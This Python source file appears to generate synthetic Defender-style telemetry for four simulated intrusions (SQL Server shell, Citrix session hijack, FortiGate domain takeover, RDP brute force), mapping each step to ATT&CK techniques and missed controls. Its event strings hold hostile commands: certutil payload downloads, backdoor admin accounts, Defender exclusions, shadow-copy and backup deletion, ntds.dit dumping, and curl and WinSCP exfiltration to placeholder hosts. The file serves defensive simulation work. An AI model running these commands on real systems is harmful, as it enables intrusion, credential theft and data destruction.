"""Intruders who came through something that faces the internet."""
from . import estate
from .steps import (beacon, blind, clear, encrypt, h, inhibit, lsass, m, psexec, rdp, run_key, s, send, stage, stop,
                    winrm)


@estate("mssql-shell", "A database server that answers the internet; its engine starts a shell; a new administrator")
def mssql(e):
    e.people(18)
    dc, fs, db = e.servers("dc", "file", "db")
    e.admin()
    db.facing = True
    for n in range(2, 16, 2):
        e.net(db, e.at(n, "12:30"), e.base(db, "sqlservr.exe", user="mssqlserver"), f"192.0.2.{n + 60}", 1433,
              action="InboundConnectionAccepted")
    t, ip = e.at(16, "23:38"), "203.0.113.33"
    sql = e.base(db, "sqlservr.exe", user="mssqlserver", command='"sqlservr.exe" -sMSSQLSERVER',
                 path="C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe")
    knocks = [e.net(db, t + s(i * 2), sql, ip, 1433, action="InboundConnectionAccepted") for i in range(90)]
    t += m(5)
    sh = e.run(db, t, "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c whoami & hostname', sql)
    e.entry(db, t, ["T1110.001", "T1110", "T1133", "T1190", "T1505.001", "T1059.003"], "exposed-remote-service",
            [knocks[0], sh])
    e.cause(db, "T1133 T1110.001 T1190 T1505.001", "net.exposed", "would-have-blocked",
            "the engine's port is open to the internet", same=("scid-114",), rows=[knocks[0], sh])
    c = e.run(db, t + m(2), "cmd.exe",
              '"C:\\Windows\\system32\\cmd.exe" /c certutil -urlcache -f http://203.0.113.34/g.exe '
              "C:\\Users\\Public\\g.exe", sql)
    u = e.run(db, t + m(2) + s(1), "certutil.exe",
              "certutil -urlcache -f http://203.0.113.34/g.exe C:\\Users\\Public\\g.exe", c)
    n = e.net(db, t + m(2) + s(2), u, "203.0.113.34", 80)
    f = e.file(db, t + m(2) + s(4), "FileCreated", "C:\\Users\\Public\\g.exe", u, content="potato g")
    np = e.event(db, t + m(2) + s(2), "ExploitGuardNetworkProtectionAudited", u, {"ResponseCategory": "CustomBlockList",
                 "IsAudit": True}, RemoteUrl="203.0.113.34", RemoteIP="203.0.113.34", RemotePort=80)
    e.cause(db, "T1105", "scid-96", "would-have-blocked", "network protection only audited this address", rows=[np, n])
    g = e.run(db, t + m(4), "C:\\Users\\Public\\g.exe", 'g.exe -cmd "cmd /c start"', c, user="system", level="System",
              content="potato g")
    e.note(db, "T1134")
    r = e.registry(db, t + m(6), "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
                   "C:\\Users\\Public", "0", e.base(db, "MsMpEng.exe"), "Dword")
    p = e.run(db, t + m(6) - s(1), "powershell.exe", "powershell Add-MpPreference -ExclusionPath C:\\Users\\Public", g)
    e.harm(db, t + m(6) - s(1), "T1562.001", "protection-disabled", "an exclusion for C:\\Users\\Public", [p, r])
    e.cause(db, "T1562.001", "scid-2003", "would-have-blocked", "tamper protection was off", rows=[p, r])
    e.run(db, t + m(8), "net.exe", "net user mssqladm P@ss8812 /add", g)
    a = e.event(db, t + m(8) + s(1), "UserAccountCreated", e.base(db, "lsass.exe"), AccountName="mssqladm",
                AccountDomain=db.name.lower())
    e.harm(db, t + m(8), "T1136.001", "account-created", "mssqladm", [a])
    e.run(db, t + m(9), "net.exe", "net localgroup administrators mssqladm /add", g)
    a = e.event(db, t + m(9) + s(1), "UserAccountAddedToLocalGroup", e.base(db, "lsass.exe"),
                {"GroupName": "Administrators"},
                AccountName="mssqladm", AccountDomain=db.name.lower())
    e.harm(db, t + m(9), "T1098", "account-changed", "mssqladm becomes an administrator", [a])
    e.locals.add("mssqladm")
    ad = e.file(db, t + m(13), "FileCreated", "C:\\ProgramData\\AnyDesk.exe", g, content="anydesk", size=4_000_000)
    an = e.run(db, t + m(14), "C:\\ProgramData\\AnyDesk.exe",
               "AnyDesk.exe --install C:\\ProgramData\\AD --start-with-win --silent",
               g, content="anydesk")
    e.harm(db, t + m(13), "T1219", "remote-tool-installed", "AnyDesk", [ad, an])
    beacon(e, db, t + m(15), an, "203.0.113.35", "relay-x.net.anydesk.example", 4, 7000)
    k = t + h(20)
    lock = e.run(db, k, "C:\\Users\\Public\\e_win.exe", "e_win.exe -m local -size 20", e.base(
        db, "explorer.exe", user="mssqladm"), user="mssqladm", level="High", content="locker q")
    stop(e, db, k + s(4), lock, "MSSQLSERVER")
    inhibit(e, db, k + s(9), lock, "wbadmin.exe delete systemstatebackup -keepversions:0 -quiet")
    rows = encrypt(e, db, k + s(20), lock, ".qz1", "readme_qz.hta", 40, "E:\\Data")
    e.cause(db, "T1486", "scid-2508", "would-have-blocked", "rule off, no controlled folders", same=("scid-2021",),
            rows=rows[:2])
    x = e.logon(fs, k + m(4), "mssqladm", "Network", db, ok=False, domain=fs.name.lower())
    e.decoy(fs, "scid-2508", "off, never reached")
    e.decoy(db, "CVE-2023-28252", "open, not used: the way up was another")
    e.missing |= {"DeviceImageLoadEvents"}


@estate("citrix-session", "A gateway without its fix lends a session; nobody sends telemetry from it")
def citrix(e):
    desks = e.people(22)
    dc, app, fs = e.servers("dc", "app", "file")
    gw = e.device("NSGW01", "appliance", "9.4", "appliance", agent=False, facing=True, vendor="Citrix",
                  model="NetScaler",
                  group="Network")
    vdi = e.device("VDI07", "w11", "30.17", "vdi", desks[5].user, group="VDI")
    user = desks[5].user
    for n in range(1, 17):
        if (e.start + m(n * 1440)).weekday() < 5:
            e.logon(vdi, e.at(n, "08:20"), user, "RemoteInteractive", ("nsgw01", gw.ip), admin=False)
    t = e.at(17, "03:27")
    a = e.logon(vdi, t, user, "RemoteInteractive", ("nsgw01", gw.ip), admin=False)
    sh = e.run(vdi, t + s(6), "explorer.exe", "C:\\Windows\\Explorer.EXE", e.base(vdi, "winlogon.exe"), user=user,
               level="Medium", remote=gw.ip)
    d = e.run(vdi, t + m(2), "cmd.exe", "cmd.exe /c nltest /dclist: & net group \"domain admins\" /domain", sh)
    e.entry(gw, t, ["T1190", "T1133", "T1539", "T1563"], "exploit-public-app", [a, sh, d])
    e.cause(gw, "T1190 T1133", "CVE-2023-4966", "would-have-blocked",
            "open on the gateway; a session of a person asleep comes from it", same=("patch.cve", "patch.kev"),
            rows=[a, d])
    e.move(gw, vdi, t, "T1021.001", "a lent session", [a, sh])
    f = e.file(vdi, t + m(5), "FileCreated", f"C:\\Users\\{user}\\Documents\\adfind.exe", sh, content="adfind")
    e.run(vdi, t + m(6), f["FolderPath"], "adfind.exe -f objectcategory=computer -csv", sh, content="adfind")
    g = e.file(vdi, t + m(9), "FileCreated", "\\\\" + app.fqdn() + "\\scripts\\deploy.ps1", sh)
    pw = e.run(vdi, t + m(10), "powershell.exe", "powershell gc \\\\app\\scripts\\deploy.ps1 | sls password", sh)
    e.harm(vdi, t + m(10), "T1552.001", "credentials-stolen", "a password in a script on a share", [pw])
    w = winrm(e, vdi, app, t + m(25), "svc.deploy", pw)
    at = e.run(app, t + m(31), "msiexec.exe", "msiexec /i https://agent.rmm.example/setup.msi /qn INTEGRATOR=j", w)
    ag = e.run(app, t + m(32), "C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe", "AteraAgent.exe",
               e.base(
        app, "services.exe"))
    e.harm(app, t + m(31), "T1219", "remote-tool-installed", "a management agent that is not the estate's", [at, ag])
    beacon(e, app, t + m(33), ag, "192.0.2.161", "agent.rmm.example", 15, 3600)
    q = psexec(e, app, fs, t + h(22), "svc.deploy", ag, "cmd.exe", "RemComSvc")
    e.cause(fs, "T1569.002", "scid-2510", "would-have-blocked", "the rule was off", rows=[q])
    stage(e, fs, t + h(22) + m(10), q, "D:\\$RECYCLE.BIN\\a.rar",
          "C:\\ProgramData\\rar.exe a -r -hp D:\\$RECYCLE.BIN\\a.rar D:\\Legal")
    send(e, fs, t + h(23), q, "C:\\ProgramData\\winscp.com /command \"put D:\\$RECYCLE.BIN\\a.rar\"", "203.0.113.190",
         None,
         "T1048", 22)
    e.unknowns.append("what happened on the gateway itself: it sends nothing")
    e.decoy(dc, "CVE-2020-1472", "open, not used")
    e.decoy(vdi, "scid-2501", "off; no document was opened")
    fs.skew = -190.0


@estate("fortigate-domain",
        "A firewall without its fix; its directory account rules the domain; policy carries the blow")
def fortigate(e):
    desks = e.people(30)
    dc, fs, bk = e.servers("dc", "file", "backup")
    e.admin()
    fw = e.device("FGT-EDGE", "appliance", "0.1", "appliance", agent=False, facing=True, vendor="Fortinet",
                  model="FortiGate 200F", group="Network")
    for n in range(1, 20):
        e.logon(dc, e.at(n, "06:00"), "svc.fgtldap", "Network", ("fgt-edge", fw.ip))
    t = e.at(15, "21:42")
    a = e.logon(dc, t, "svc.fgtldap", "Network", ("fgt-edge", fw.ip), admin=True)
    n = e.net(dc, t - s(2), e.base(dc, "svchost.exe"), fw.ip, 5985, action="InboundConnectionAccepted")
    w = e.run(dc, t + s(2), "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", e.base(dc,
        "svchost.exe"),
              user="svc.fgtldap", level="High")
    e.entry(fw, t, ["T1190", "T1133"], "exploit-public-app", [a, n, w])
    e.cause(fw, "T1190 T1133", "CVE-2024-21762", "would-have-blocked",
            "open on the firewall, whose own account then logs on to the domain controller", rows=[a])
    e.move(fw, dc, t, "T1021.006", "PowerShell remoting with the firewall's own account", [n, a, w])
    e.cause(dc, "T1078.002 T1021.006", "id.tiering", "would-have-limited",
            "an account meant to read the directory administers the controller", rows=[a, w])
    p = e.run(dc, t + m(11), "ntdsutil.exe", 'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\i" q q', w)
    f = e.file(dc, t + m(12), "FileCreated", "C:\\Windows\\Temp\\i\\Active Directory\\ntds.dit", p, size=90_000_000)
    e.harm(dc, t + m(11), "T1003.003", "credentials-stolen", "the directory's database", [p, f])
    send(e, dc, t + m(26), w, "curl.exe -k -F f=@C:\\Windows\\Temp\\i.zip https://203.0.113.77/up", "203.0.113.77",
         None, "T1041")
    k = e.at(18, "02:05")
    w = e.run(dc, k, "powershell.exe",
              "powershell -nop -c Import-GPO -BackupGpoName Upd -TargetName 'Default Domain Policy'",
              e.run(dc, k - s(9), "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                    e.base(dc, "svchost.exe"), user="svc.fgtldap", level="High"))
    g = e.file(dc, k + s(4), "FileCreated",
               f"C:\\Windows\\SYSVOL\\domain\\Policies\\{{31B2F340}}\\Machine\\Scripts\\Startup\\u.bat", w)
    hit, safe = desks[2:8], desks[8]
    for i, pc in enumerate(hit):
        x = k + m(40) + s(47 * i)
        gp = e.run(pc, x, "cmd.exe",
                   f"cmd.exe /c \\\\{e.suffix}\\SysVol\\Policies\\{{31B2F340}}\\Machine\\Scripts\\Startup\\u.bat",
                   e.base(pc, "svchost.exe", user="system"))
        lk = e.run(pc, x + s(3), "C:\\Windows\\Temp\\upd.exe", "C:\\Windows\\Temp\\upd.exe -all", gp,
                   content="locker v")
        e.move(dc, pc, x, "T1484.001", "group policy", [g, gp])
        inhibit(e, pc, x + s(6), lk, "vssadmin.exe delete shadows /all /quiet")
        rows = encrypt(e, pc, x + s(20), lk, ".vxl", "RESTORE.txt", 20, f"C:\\Users\\{pc.user}\\Documents")
        e.cause(pc, "T1486", "scid-2508", "would-have-blocked",
                "off here; where it is on, the same program was stopped",
                same=("scid-2021",), rows=rows[:2])
    x = k + m(41)
    gp = e.run(safe, x, "cmd.exe",
               f"cmd.exe /c \\\\{e.suffix}\\SysVol\\Policies\\{{31B2F340}}\\Machine\\Scripts\\Startup\\u.bat",
               e.base(safe, "svchost.exe", user="system"))
    e.move(dc, safe, x, "T1484.001", "group policy", [g, gp])
    lk = e.run(safe, x + s(3), "C:\\Windows\\Temp\\upd.exe", "C:\\Windows\\Temp\\upd.exe -all", gp, content="locker v")
    e.held(safe, "T1486", "scid-2508", x + s(9), "the rule stopped it",
           [e.rule(safe, x + s(9), "scid-2508", lk, blocked=True)])
    e.unknowns.append("the hypervisor was reached by SSH; nothing on it reports")
    e.net(dc, k + m(70), w, f"{e.net_it}.2.5", 22)
    e.decoy(bk, "scid-2508", "off, never reached")
    e.decoy(desks[20], "scid-2508", "off, the policy did not reach it")
    e.alert(desks[12], e.at(9, "10:00"), "Suspicious PowerShell command line", "Execution", "Medium", ["T1059.001"])


@estate("rdp-smallshop", "A small shop: remote desktop for the accountant, open to all; no domain, no lockout")
def smallshop(e):
    desks = e.people(4, mix="w10")
    srv = e.device("KASSE-SRV", "s16", "1.5", "rds", "chef", facing=True)
    e.locals |= {"chef", "buero"}
    for n in range(1, 19): e.logon(srv, e.at(n, "18:10"), "buero", "RemoteInteractive", "198.51.100.201", admin=False)
    for n in range(1, 19, 2):
        for i in range(9): e.logon(srv, e.at(n, "02:00") + m(9 * i), e.rng.choice(["admin", "user1", "test"]),
                                   "Network",
                                   f"192.0.2.{100 + n}", ok=False)
    t, ip = e.at(18, "22:56"), "203.0.113.244"
    fails = [e.logon(srv, t + s(i * 5), "chef", "Network", ip, ok=False) for i in range(210)]
    t += s(210 * 5 + 2)
    a = e.logon(srv, t, "chef", "RemoteInteractive", ip, admin=True)
    n = e.net(srv, t - s(1), e.base(srv, "svchost.exe"), ip, 3389, action="InboundConnectionAccepted")
    sh = e.run(srv, t + s(8), "explorer.exe", "C:\\Windows\\Explorer.EXE", e.base(srv, "winlogon.exe"), user="chef",
               level="High", remote=ip)
    e.entry(srv, t, ["T1110.001", "T1110", "T1133", "T1021.001", "T1078.003"], "exposed-remote-service", [a, n, sh])
    e.cause(srv, "T1133 T1021.001", "net.exposed", "would-have-blocked", "remote desktop open to the internet",
            same=("scid-114",), rows=[n, a])
    e.cause(srv, "T1110.001 T1110", "scid-44", "would-have-blocked", "210 failures on one account, no lockout",
            same=("scid-41", "scid-42"), rows=[fails[0], fails[-1], a])
    rows = blind(e, srv, t + m(5), sh)
    e.cause(srv, "T1562.001", "scid-2003", "would-have-blocked", "tamper protection was off before", rows=rows)
    mi = e.run(srv, t + m(12), "C:\\ProgramData\\nssm\\xm.exe", "xm.exe -o pool.coins.example:3333 -u 4A", sh,
               content="xmr w")
    e.harm(srv, t + m(12), "T1496", "resource-hijacked", "miner",
           [mi, *beacon(e, srv, t + m(13), mi, "192.0.2.66", "pool.coins.example", 10, 3000, 3333)])
    e.cause(srv, "T1496", "scid-2013", "would-have-limited", "miners are unwanted programs; blocking them was off",
            rows=[mi])
    clear(e, srv, t + m(40), sh)
    e.decoy(desks[0], "scid-2003", "off, never reached")
    e.missing |= {"DeviceBaselineComplianceAssessment", "DeviceTvmSoftwareVulnerabilities", "AlertInfo",
                  "AlertEvidence",
                  "DeviceTvmSoftwareVulnerabilitiesKB"}
    e.gaps.append(("DeviceProcessEvents", desks[1], e.at(10, "00:00"), e.at(13, "00:00")))
    return ("scanner", "rounds", "helpdesk")
